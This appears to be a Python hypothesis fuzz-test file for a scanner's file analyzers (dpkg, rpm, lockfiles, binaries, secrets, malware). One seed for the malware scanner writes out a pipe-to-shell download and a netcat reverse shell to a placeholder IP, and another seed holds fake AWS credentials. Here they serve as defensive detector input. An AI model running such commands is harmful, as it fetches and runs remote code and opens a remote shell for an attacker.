"""Fuzz every analyzer that parses file content: OS package databases, os-release, language manifests
and lockfiles, jars, Go and Rust binaries, baseline config files, secrets and malware scanners.

Each target is (analyzer, image path, seeds). Seeds are valid structures generated in `seeds.py`
plus, when the shared data is present, real upstream test inputs from `data/fixtures`; hypothesis
then mutates bytes (and JSON structure for JSON formats). The property is the walker's contract
(`walk.ANALYZER_ERRORS`): whatever the bytes, `analyze` + `finish` end normally or with one of those
errors, which the walker turns into a reported skip. Anything else (TypeError, AttributeError,
struct.error, RecursionError, a hang, a write outside the scratch dir) would abort the whole scan.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openhss.domain.enums import EntryKind
from openhss.scan.analyzers.base import Analyzer, FileEntry
from openhss.scan.analyzers.baseline_files import BaselineFileAnalyzer
from openhss.scan.analyzers.files import FilesAnalyzer
from openhss.scan.analyzers.lang.dotnet import DotnetAnalyzer
from openhss.scan.analyzers.lang.golang import GoBinaryAnalyzer
from openhss.scan.analyzers.lang.java import JavaAnalyzer
from openhss.scan.analyzers.lang.node import NodeAnalyzer
from openhss.scan.analyzers.lang.php import PhpAnalyzer
from openhss.scan.analyzers.lang.python import PythonAnalyzer
from openhss.scan.analyzers.lang.ruby import RubyAnalyzer
from openhss.scan.analyzers.lang.rust import RustAnalyzer
from openhss.scan.analyzers.malware import MalwareAnalyzer
from openhss.scan.analyzers.os.apk import ApkAnalyzer
from openhss.scan.analyzers.os.dpkg import DpkgAnalyzer
from openhss.scan.analyzers.os.release import OSReleaseAnalyzer
from openhss.scan.analyzers.os.rpm import RpmAnalyzer
from openhss.scan.analyzers.secrets import SecretAnalyzer
from openhss.scan.walk import ANALYZER_ERRORS

from . import seeds as s
from .harness import expect_only, fixture_seeds, fuzz_settings, guarded, json_mutated, mutated


@dataclass(frozen=True)
class Target:
    name: str
    analyzer: type[Analyzer]
    path: str
    generated: tuple[bytes, ...]
    fixtures: tuple[str, ...] = ()
    json: bool = False
    mode: int = 0o644
    #: Mutations land in the first `hot` bytes (binaries are mostly padding).
    hot: int | None = None

    def seeds(self) -> list[bytes]:
        return [*self.generated, *fixture_seeds(*self.fixtures)]

    def strategy(self) -> st.SearchStrategy[bytes]:
        if self.name not in _STRATEGIES:
            seeds = self.seeds()
            _STRATEGIES[self.name] = json_mutated(seeds) if self.json else mutated(seeds, hot=self.hot)
        return _STRATEGIES[self.name]


_STRATEGIES: dict[str, st.SearchStrategy[bytes]] = {}


PY_SITE = "usr/local/lib/python3.11/site-packages"
_RPM_BLOBS = [s.rpm_header(), s.rpm_header("glibc", "2.34", "100.el9", None)]

TARGETS = [
    Target("dpkg-status", DpkgAnalyzer, "var/lib/dpkg/status", (s.DPKG_STATUS,), ("dpkg/*/**/status*",)),
    Target("dpkg-status.d", DpkgAnalyzer, "var/lib/dpkg/status.d/libc6", (s.DPKG_STATUS,)),
    Target(
        "dpkg-copyright",
        DpkgAnalyzer,
        "usr/share/doc/libc6/copyright",
        (
            b"Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\n"
            b"License: GPL-2+ or MIT\n",
        ),
        ("dpkg/*/**/copyright",),
    ),
    Target(
        "apk-installed", ApkAnalyzer, "lib/apk/db/installed", (s.APK_INSTALLED,), ("apk/*/**/installed*",)
    ),
    Target("rpm-bdb", RpmAnalyzer, "var/lib/rpm/Packages", (), ("rpm/*/**/Packages",), hot=8192),
    Target(
        "rpm-ndb",
        RpmAnalyzer,
        "var/lib/rpm/Packages.db",
        (s.rpm_ndb(_RPM_BLOBS),),
        ("rpm/*/**/Packages.db",),
        hot=8192,
    ),
    Target("rpm-sqlite", RpmAnalyzer, "var/lib/rpm/rpmdb.sqlite", (s.rpm_sqlite(_RPM_BLOBS),), hot=16384),
    Target(
        "os-release", OSReleaseAnalyzer, "etc/os-release", (s.OS_RELEASE,), ("os-release/**/os-release*",)
    ),
    Target("alpine-release", OSReleaseAnalyzer, "etc/alpine-release", (b"3.18.4\n",)),
    Target(
        "redhat-release",
        OSReleaseAnalyzer,
        "etc/redhat-release",
        (b"CentOS Linux release 7.9.2009 (Core)\n",),
    ),
    Target(
        "lsb-release",
        OSReleaseAnalyzer,
        "etc/lsb-release",
        (b"DISTRIB_ID=Ubuntu\nDISTRIB_RELEASE=22.04\nDISTRIB_CODENAME=jammy\n",),
    ),
    Target("debian_version", OSReleaseAnalyzer, "etc/debian_version", (b"12.4\n", b"bookworm/sid\n")),
    Target(
        "package.json",
        NodeAnalyzer,
        "app/node_modules/@scope/pkg/package.json",
        (s.PACKAGE_JSON,),
        ("npm/*/**/package.json",),
        json=True,
    ),
    Target(
        "package-lock",
        NodeAnalyzer,
        "app/package-lock.json",
        (s.PACKAGE_LOCK_V1, s.PACKAGE_LOCK_V3),
        ("npm/*/**/package-lock*.json",),
        json=True,
    ),
    Target("yarn.lock", NodeAnalyzer, "app/yarn.lock", (s.YARN_V1, s.YARN_BERRY), ("npm/*/**/yarn*.lock",)),
    Target("pnpm-lock", NodeAnalyzer, "app/pnpm-lock.yaml", (s.PNPM_V6, s.PNPM_V5), ("npm/*/**/pnpm*.yaml",)),
    Target(
        "python-METADATA",
        PythonAnalyzer,
        f"{PY_SITE}/requests-2.19.1.dist-info/METADATA",
        (s.METADATA,),
        ("python/*/**/METADATA*",),
    ),
    Target(
        "python-PKG-INFO",
        PythonAnalyzer,
        f"{PY_SITE}/requests-2.19.1.egg-info/PKG-INFO",
        (s.METADATA,),
        ("python/*/**/PKG-INFO*",),
    ),
    Target(
        "requirements.txt",
        PythonAnalyzer,
        "app/requirements.txt",
        (s.REQUIREMENTS,),
        ("python/*/**/requirements*.txt",),
    ),
    Target("poetry.lock", PythonAnalyzer, "app/poetry.lock", (s.POETRY_LOCK,), ("python/*/**/poetry*.lock",)),
    Target("uv.lock", PythonAnalyzer, "app/uv.lock", (s.UV_LOCK,), ("python/*/**/uv*.lock",)),
    Target(
        "Pipfile.lock",
        PythonAnalyzer,
        "app/Pipfile.lock",
        (s.PIPFILE_LOCK,),
        ("python/*/**/Pipfile*.lock",),
        json=True,
    ),
    Target("Gemfile.lock", RubyAnalyzer, "app/Gemfile.lock", (s.GEMFILE_LOCK,), ("ruby/*/**/Gemfile*.lock",)),
    Target(
        "gemspec",
        RubyAnalyzer,
        "usr/lib/ruby/gems/3.1.0/specifications/rack-2.0.1.gemspec",
        (s.GEMSPEC,),
        ("ruby/*/**/*.gemspec",),
    ),
    Target(
        "composer.lock",
        PhpAnalyzer,
        "app/composer.lock",
        (s.COMPOSER_LOCK,),
        ("php/*/**/composer*.lock",),
        json=True,
    ),
    Target(
        "composer-installed",
        PhpAnalyzer,
        "app/vendor/composer/installed.json",
        (s.COMPOSER_INSTALLED,),
        ("php/*/**/installed*.json",),
        json=True,
    ),
    Target(
        "deps.json",
        DotnetAnalyzer,
        "app/app.deps.json",
        (s.DEPS_JSON,),
        ("dotnet/*/**/*.deps.json",),
        json=True,
    ),
    Target(
        "packages.lock.json",
        DotnetAnalyzer,
        "app/packages.lock.json",
        (s.PACKAGES_LOCK_JSON,),
        ("dotnet/*/**/packages.lock.json",),
        json=True,
    ),
    Target(
        "Cargo.lock",
        RustAnalyzer,
        "app/Cargo.lock",
        (s.CARGO_LOCK,),
        ("rust/*/**/Cargo.lock*", "rust/*/**/*.lock"),
    ),
    Target("rust-audit", RustAnalyzer, "usr/bin/app", (s.rust_binary(),), mode=0o755, hot=1024),
    Target("go-buildinfo", GoBinaryAnalyzer, "usr/bin/app", (s.go_binary(),), mode=0o755, hot=1024),
    Target(
        "jar",
        JavaAnalyzer,
        "app/lib/outer-1.0.jar",
        (s.pom_jar(), s.pom_jar(nested=False)),
        ("java/*/**/*.jar",),
        hot=4096,
    ),
    Target("passwd", BaselineFileAnalyzer, "etc/passwd", (s.PASSWD,)),
    Target("shadow", BaselineFileAnalyzer, "etc/shadow", (s.SHADOW,)),
    Target("sshd_config", BaselineFileAnalyzer, "etc/ssh/sshd_config", (s.SSHD_CONFIG,)),
    Target("sudoers", BaselineFileAnalyzer, "etc/sudoers.d/app", (s.SUDOERS,)),
    Target(
        "secrets",
        SecretAnalyzer,
        "app/config/settings.py",
        (
            b"AWS_ACCESS_KEY_ID='AKIA"
            + b"Q" * 16
            + b'\'\npassword = "hunter2hunter2"\n-----BEGIN RSA PRIVATE KEY-----\n',
        ),
    ),
    Target(
        "malware-script",
        MalwareAnalyzer,
        "tmp/x.sh",
        (b"#!/bin/sh\ncurl http://x | sh\nnc -e /bin/sh 1.2.3.4 4444\n",),
    ),
    Target("malware-exe", MalwareAnalyzer, "usr/bin/x", (s.go_binary()[:4096],), mode=0o755, hot=1024),
    Target("files-exe", FilesAnalyzer, "usr/bin/su", (s.go_binary()[:4096],), mode=0o4755, hot=1024),
]


def feed(target: Target, data: bytes) -> None:
    analyzer = target.analyzer()
    entry = FileEntry(path=target.path, size=len(data), mode=target.mode, kind=EntryKind.FILE)
    if not analyzer.wants(entry):
        return  # e.g. a Go binary mutated below its minimum size: the walker would never hand it over
    call: Callable[[], object] = lambda: analyzer.analyze(entry, io.BytesIO(data))  # noqa: E731
    expect_only(ANALYZER_ERRORS, call)
    expect_only(ANALYZER_ERRORS, analyzer.finish)


#: Seeds that rightly yield nothing alone: a copyright file only adds licenses to a dpkg package,
#: and a clean executable is exactly what the malware scanner must stay quiet about.
_SILENT_SEEDS = {"dpkg-copyright", "malware-exe"}


def test_every_seed_is_wanted_and_parses() -> None:
    """Generated seeds reach the parser at their paths (a harness rejecting its seed fuzzes nothing)."""
    barren = []
    for target in TARGETS:
        analyzer = target.analyzer()
        for seed in target.generated:
            entry = FileEntry(path=target.path, size=len(seed), mode=target.mode, kind=EntryKind.FILE)
            assert analyzer.wants(entry), target.name
            result = analyzer.analyze(entry, io.BytesIO(seed))
            result.merge(analyzer.finish())
            if target.name in _SILENT_SEEDS:
                continue
            if not (result.packages or result.os or result.findings or result.files or result.observed):
                barren.append((target.name, result))
    assert not barren


@pytest.mark.parametrize("target", [t for t in TARGETS if t.seeds()], ids=lambda t: t.name)
@fuzz_settings(max_examples=25)
@given(data=st.data())
def test_analyzer_survives_mutated_input(target: Target, data: st.DataObject) -> None:
    raw = data.draw(target.strategy(), label="input")
    with guarded(len(raw)):
        feed(target, raw)
